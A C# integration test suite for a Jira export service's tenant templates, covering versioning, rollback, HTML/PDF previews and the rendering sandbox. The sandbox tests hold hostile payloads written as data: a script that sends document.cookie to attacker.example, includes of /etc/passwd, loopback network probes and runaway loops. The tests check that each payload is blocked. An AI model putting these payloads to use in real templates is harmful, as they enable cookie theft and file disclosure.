using System.Net;
using System.Net.Http.Json;
using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using JiraExport.IntegrationTests.Infrastructure;
using UglyToad.PdfPig;
using Xunit;

namespace JiraExport.IntegrationTests;

/// <summary>Tenant templates: drafts, versions, validation, preview, the sandbox, the built-in templates and branding.</summary>
public sealed class TemplateTests(JiraExportSystem system) : IClassFixture<JiraExportSystem>
{
    private static CancellationToken Token => TestContext.Current.CancellationToken;

    [Fact]
    public async Task ATemplateIsDraftedValidatedPublishedInVersionsRolledBackAndDeleted()
    {
        var tenant = await system.CreateTenantAsync(Token);

        // Syntax errors are refused with the line and column; unknown variables are reported on a saved draft.
        var broken = await tenant.Client.PostAsJsonAsync("/api/v1/templates", new { name = "board-pack", kind = "issue-list", liquid = "<h1>x</h1>\n{% for i in report.issues %}\n{{ i.key }\n" }, Token);
        Assert.Equal(HttpStatusCode.BadRequest, broken.StatusCode);
        var problem = await broken.Content.ReadFromJsonAsync<JsonElement>(Token);
        var templateError = problem.GetProperty("templateErrors")[0];
        Assert.Equal((3, 9), (templateError.GetProperty("line").GetInt32(), templateError.GetProperty("column").GetInt32()));
        Assert.StartsWith("Line 3, column 9:", problem.GetProperty("errors").GetProperty("liquid")[0].GetString(), StringComparison.Ordinal);

        var created = await CreateAsync(tenant, new { name = "board-pack", kind = "issue-list", liquid = Body("VERSION-ONE") + "{{ report.nosuch }}{{ issue_count }}" });
        Assert.Equal(["issue_count", "nosuch"], created.GetProperty("unknownVariables").EnumerateArray().Select(v => v.GetString()));
        var id = created.GetProperty("id").GetGuid();

        // A template without a published version cannot be exported with.
        var unpublished = await RequestExportAsync(tenant, "board-pack", null);
        Assert.Equal(HttpStatusCode.BadRequest, unpublished.StatusCode);
        Assert.Contains("no published version", await unpublished.Content.ReadAsStringAsync(Token), StringComparison.Ordinal);

        Assert.Equal(1, (await PostAsync(tenant, $"/api/v1/templates/{id}/publish", new { note = "first" })).GetProperty("version").GetInt32());
        var updated = await tenant.Client.PutAsJsonAsync($"/api/v1/templates/{id}", new { liquid = Body("VERSION-TWO") }, Token);
        Assert.Equal(HttpStatusCode.OK, updated.StatusCode);
        Assert.Empty((await updated.Content.ReadFromJsonAsync<JsonElement>(Token)).GetProperty("unknownVariables").EnumerateArray());
        Assert.Equal(2, (await PostAsync(tenant, $"/api/v1/templates/{id}/publish", new { })).GetProperty("version").GetInt32());

        // Exports pin a version: the latest by default, an older one on request; the record says which.
        var latest = await ExportTextAsync(tenant, "board-pack", null);
        var first = await ExportTextAsync(tenant, "board-pack", 1);
        Assert.Contains("VERSION-TWO", latest.Text, StringComparison.Ordinal);
        Assert.Contains("VERSION-ONE", first.Text, StringComparison.Ordinal);
        Assert.Equal((2, 1), (latest.Version, first.Version));

        // A rollback publishes version 1's content as version 3, and the draft follows.
        Assert.Equal(3, (await PostAsync(tenant, $"/api/v1/templates/{id}/rollback", new { version = 1 })).GetProperty("version").GetInt32());
        var versions = await tenant.Client.GetFromJsonAsync<JsonElement>($"/api/v1/templates/{id}/versions", Token);
        Assert.Equal([3, 2, 1], versions.GetProperty("items").EnumerateArray().Select(v => v.GetProperty("version").GetInt32()));
        var third = await tenant.Client.GetFromJsonAsync<JsonElement>($"/api/v1/templates/{id}/versions/3", Token);
        Assert.Contains("VERSION-ONE", third.GetProperty("liquid").GetString(), StringComparison.Ordinal);
        Assert.Contains("VERSION-ONE", (await ExportTextAsync(tenant, "board-pack", null)).Text, StringComparison.Ordinal);

        // Deleting hides it: gone from the list and from exports, the name free again.
        Assert.Equal(HttpStatusCode.NoContent, (await tenant.Client.DeleteAsync($"/api/v1/templates/{id}", Token)).StatusCode);
        var list = await tenant.Client.GetFromJsonAsync<JsonElement>("/api/v1/templates", Token);
        var names = list.GetProperty("items").EnumerateArray().Select(t => t.GetProperty("name").GetString()).ToList();
        Assert.Equal(["issue-list", "issue-detail", "sprint-report", "release-notes", "stakeholder-pack"], names);
        Assert.Equal(HttpStatusCode.BadRequest, (await RequestExportAsync(tenant, "board-pack", null)).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await tenant.Client.GetAsync($"/api/v1/templates/{id}", Token)).StatusCode);
        await CreateAsync(tenant, new { name = "board-pack", copyFrom = "issue-list" });
    }

    [Fact]
    public async Task AnHtmlPreviewIsServedWithAPolicyThatRunsNothingItsTemplateWrote()
    {
        var tenant = await system.CreateTenantAsync(Token);
        var template = await CreateAsync(tenant, new
        {
            name = "scripted",
            kind = "issue-list",
            liquid = "<html><body><script>fetch('https://attacker.example/'+document.cookie)</script><p>{{ report.title }}</p></body></html>",
        });

        using var preview = await PreviewAsync(tenant, template.GetProperty("id").GetGuid(), "html");

        Assert.Equal(HttpStatusCode.OK, preview.StatusCode);
        var policy = preview.Headers.TryGetValues("Content-Security-Policy", out var values) ? string.Join(";", values) : "";
        Assert.Contains("default-src 'none'", policy, StringComparison.Ordinal);
        Assert.Contains("sandbox", policy, StringComparison.Ordinal);
        Assert.Equal("nosniff", string.Join(",", preview.Headers.GetValues("X-Content-Type-Options")));
    }

    [Fact]
    public async Task TheSandboxKeepsTemplatesFromFilesTheNetworkRunawayLoopsAndOtherTenants()
    {
        var tenant = await system.CreateTenantAsync(Token);
        var other = await system.CreateTenantAsync(Token);

        // Files: Liquid cannot include them; the page cannot load them.
        var include = await CreateAsync(tenant, new { name = "include-passwd", kind = "issue-list", liquid = "{% include '/etc/passwd' %}" });
        Assert.Contains("cannot include", include.GetProperty("sampleRenderError").GetString(), StringComparison.Ordinal);
        var preview = await PreviewAsync(tenant, include.GetProperty("id").GetGuid(), "html");
        Assert.Equal(HttpStatusCode.UnprocessableEntity, preview.StatusCode);
        Assert.DoesNotContain("root:", await preview.Content.ReadAsStringAsync(Token), StringComparison.Ordinal);

        // The network: a listener on loopback that must never be asked for anything.
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var port = ((IPEndPoint)listener.LocalEndpoint).Port;
        var fetches = await CreateAsync(tenant, new
        {
            name = "fetches",
            kind = "issue-list",
            liquid = $"<html><head><link rel=\"stylesheet\" href=\"http://127.0.0.1:{port}/style.css\"></head><body><h1>NETWORK-PROBE</h1>" +
                     $"<img src=\"http://127.0.0.1:{port}/pixel.png\"><img src=\"file:///etc/passwd\"><iframe src=\"http://127.0.0.1:{port}/frame\"></iframe></body></html>",
            css = $"@import url(http://127.0.0.1:{port}/import.css); body {{ background: url(http://127.0.0.1:{port}/bg.png); }}",
        });
        var pdf = await PreviewAsync(tenant, fetches.GetProperty("id").GetGuid(), "pdf");
        Assert.Equal(HttpStatusCode.OK, pdf.StatusCode);
        Assert.Contains("NETWORK-PROBE", PdfText(await pdf.Content.ReadAsByteArrayAsync(Token)), StringComparison.Ordinal);
        Assert.False(listener.Pending(), "The page reached the network.");

        // Runaway templates: a huge loop and a value that doubles until it fills the memory are stopped with a reason.
        var loop = await CreateAsync(tenant, new { name = "huge-loop", kind = "issue-list", liquid = "{% for i in (1..100000000) %}{{ i }}{% endfor %}" });
        // Refused before Fluid builds the range's hundred million items.
        Assert.Contains("(1..100000000) has more than 200,000 items", loop.GetProperty("sampleRenderError").GetString(), StringComparison.Ordinal);
        var nested = await CreateAsync(tenant, new { name = "nested-loop", kind = "issue-list", liquid = "{% for i in (1..100000) %}{% for j in (1..100000) %}{% endfor %}{% endfor %}" });
        Assert.Contains("steps", nested.GetProperty("sampleRenderError").GetString(), StringComparison.Ordinal);
        var doubling = await CreateAsync(tenant, new
        {
            name = "doubling",
            kind = "issue-list",
            liquid = "{% assign s = 'xxxxxxxxxx' %}{% for i in (1..40) %}{% capture s %}{{ s }}{{ s }}{% endcapture %}{% endfor %}{{ s | size }}",
        });
        Assert.Contains("longer than", doubling.GetProperty("sampleRenderError").GetString(), StringComparison.Ordinal);
        var stopped = await PreviewAsync(tenant, doubling.GetProperty("id").GetGuid(), "html");
        Assert.Equal(HttpStatusCode.UnprocessableEntity, stopped.StatusCode);

        // Members outside the report model read as nothing.
        var reflection = await CreateAsync(tenant, new { name = "reflection", kind = "issue-list", liquid = "[{{ report.GetType }}{{ report.issues.first.GetHashCode }}{{ report.branding.Default.primaryColor }}]" });
        var reflected = await PreviewAsync(tenant, reflection.GetProperty("id").GetGuid(), "html");
        Assert.Contains("[]", await reflected.Content.ReadAsStringAsync(Token), StringComparison.Ordinal);

        // Another tenant sees none of it, by id or by name.
        var id = fetches.GetProperty("id").GetGuid();
        Assert.Equal(HttpStatusCode.NotFound, (await other.Client.GetAsync($"/api/v1/templates/{id}", Token)).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await PreviewAsync(other, id, "html")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await other.Client.PostAsJsonAsync($"/api/v1/templates/{id}/publish", new { }, Token)).StatusCode);
        await PostAsync(tenant, $"/api/v1/templates/{id}/publish", new { });
        Assert.Equal(HttpStatusCode.BadRequest, (await RequestExportAsync(other, "fetches", null)).StatusCode);
    }

    [Fact]
    public async Task BuiltInTemplatesRenderTheSyncedStoreWithTheTenantsBranding()
    {
        var tenant = await system.CreateTenantAsync(Token);
        var sync = await tenant.SyncAsync(new { mode = "full", projects = new[] { "DELTA" } }, Token);
        Assert.Equal("succeeded", sync.Status);
        var branding = await tenant.Client.PutAsJsonAsync("/api/v1/tenant/branding",
            new { companyName = "Umbrella Analytics", accentColor = "#c2410c", footerText = "Confidential — Umbrella", logoDataUrl = "data:image/png;base64," + OnePixelPng }, Token);
        Assert.Equal(HttpStatusCode.OK, branding.StatusCode);
        var badBranding = await tenant.Client.PutAsJsonAsync("/api/v1/tenant/branding", new { accentColor = "red", fontFamily = "Comic Sans" }, Token);
        Assert.Equal(HttpStatusCode.BadRequest, badBranding.StatusCode);

        // Issue detail: description, comments, status history; the branding in the document.
        var detail = await ExportTextAsync(tenant, "issue-detail", null, "project = DELTA ORDER BY key ASC", options: new { toc = true });
        Assert.Contains("Umbrella Analytics", detail.Text, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("Confidential — Umbrella", detail.Text, StringComparison.Ordinal);
        Assert.Contains("Comments (", detail.Text, StringComparison.Ordinal);
        Assert.Contains("Status history", detail.Text, StringComparison.Ordinal);
        Assert.Contains("DELTA-1 ", detail.Text, StringComparison.Ordinal);

        // Sprint report and release notes, as HTML previews of copies (the chart is SVG, drawn from the store).
        var sprintCopy = await CreateAsync(tenant, new { name = "my-sprints", copyFrom = "sprint-report" });
        Assert.Empty(sprintCopy.GetProperty("unknownVariables").EnumerateArray());
        var sprints = await PreviewAsync(tenant, sprintCopy.GetProperty("id").GetGuid(), "html", "project = DELTA ORDER BY key ASC", tenant.ConnectionId);
        var sprintHtml = await sprints.Content.ReadAsStringAsync(Token);
        Assert.True(sprints.StatusCode == HttpStatusCode.OK, sprintHtml);
        Assert.Contains("<polyline class=\"actual\" points=\"0,", sprintHtml, StringComparison.Ordinal);
        Assert.Contains("committed", sprintHtml, StringComparison.Ordinal);
        Assert.Contains("#c2410c", sprintHtml, StringComparison.Ordinal);

        var releaseCopy = await CreateAsync(tenant, new { name = "my-release", copyFrom = "release-notes" });
        var releases = await PreviewAsync(tenant, releaseCopy.GetProperty("id").GetGuid(), "html");
        var releaseHtml = await releases.Content.ReadAsStringAsync(Token);
        Assert.Contains("<h2 id=\"release-1\">1.4.0</h2>", releaseHtml, StringComparison.Ordinal);
        Assert.Contains("<h3>Bug (1)</h3>", releaseHtml, StringComparison.Ordinal);

        // Previews are not exports.
        var exports = await tenant.Client.GetFromJsonAsync<JsonElement>("/api/v1/exports", Token);
        Assert.All(exports.GetProperty("items").EnumerateArray(), e => Assert.Equal("issue-detail", e.GetProperty("template").GetString()));
    }

    private const string OnePixelPng = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

    private static string Body(string marker) =>
        $"<html><head><title>{{{{ report.title }}}}</title></head><body><h1>{marker}</h1>{{% for issue in report.issues %}}<p>{{{{ issue.key }}}} {{{{ issue.fields.status }}}}</p>{{% endfor %}}</body></html>";

    private static async Task<JsonElement> CreateAsync(TestTenant tenant, object body)
    {
        using var response = await tenant.Client.PostAsJsonAsync("/api/v1/templates", body, Token);
        var json = await response.Content.ReadFromJsonAsync<JsonElement>(Token);
        Assert.True(response.StatusCode == HttpStatusCode.Created, json.ToString());
        return json;
    }

    private static async Task<JsonElement> PostAsync(TestTenant tenant, string path, object body)
    {
        using var response = await tenant.Client.PostAsJsonAsync(path, body, Token);
        var json = await response.Content.ReadFromJsonAsync<JsonElement>(Token);
        Assert.True(response.IsSuccessStatusCode, json.ToString());
        return json;
    }

    private static Task<HttpResponseMessage> PreviewAsync(TestTenant tenant, Guid id, string format, string? jql = null, Guid? connectionId = null) =>
        tenant.Client.PostAsJsonAsync($"/api/v1/templates/{id}/preview", new { format, jql, connectionId }, Token);

    private static Task<HttpResponseMessage> RequestExportAsync(TestTenant tenant, string template, int? templateVersion, string jql = "key = DELTA-1", object? options = null) =>
        tenant.Client.PostAsJsonAsync("/api/v1/exports", new { connectionId = tenant.ConnectionId, jql, template, templateVersion, options }, Token);

    private static async Task<(string Text, int Version)> ExportTextAsync(TestTenant tenant, string template, int? templateVersion, string jql = "key = DELTA-1", object? options = null)
    {
        using var response = await RequestExportAsync(tenant, template, templateVersion, jql, options);
        Assert.True(response.StatusCode == HttpStatusCode.Accepted, await response.Content.ReadAsStringAsync(Token));
        var id = (await response.Content.ReadFromJsonAsync<JsonElement>(Token)).GetProperty("id").GetGuid();
        var export = await tenant.WaitForExportToFinishAsync(id, Token);
        Assert.True(export.Status == "succeeded", export.ToString());
        var record = await tenant.Client.GetFromJsonAsync<JsonElement>($"/api/v1/exports/{id}", Token);
        var bytes = await tenant.Client.GetByteArrayAsync($"/api/v1/exports/{id}/file", Token);
        return (PdfText(bytes), record.GetProperty("templateVersion").GetInt32());
    }

    /// <summary>The words of every page, NFKC-normalised: Chromium shapes "fi" into a ligature glyph, which PdfPig reads as "ﬁ".</summary>
    private static string PdfText(byte[] bytes)
    {
        using var pdf = PdfDocument.Open(bytes);
        var text = new StringBuilder();
        foreach (var page in pdf.GetPages())
        {
            text.AppendLine(string.Join(' ', page.GetWords().Select(w => w.Text)));
        }

        return text.ToString().Normalize(NormalizationForm.FormKC);
    }
}
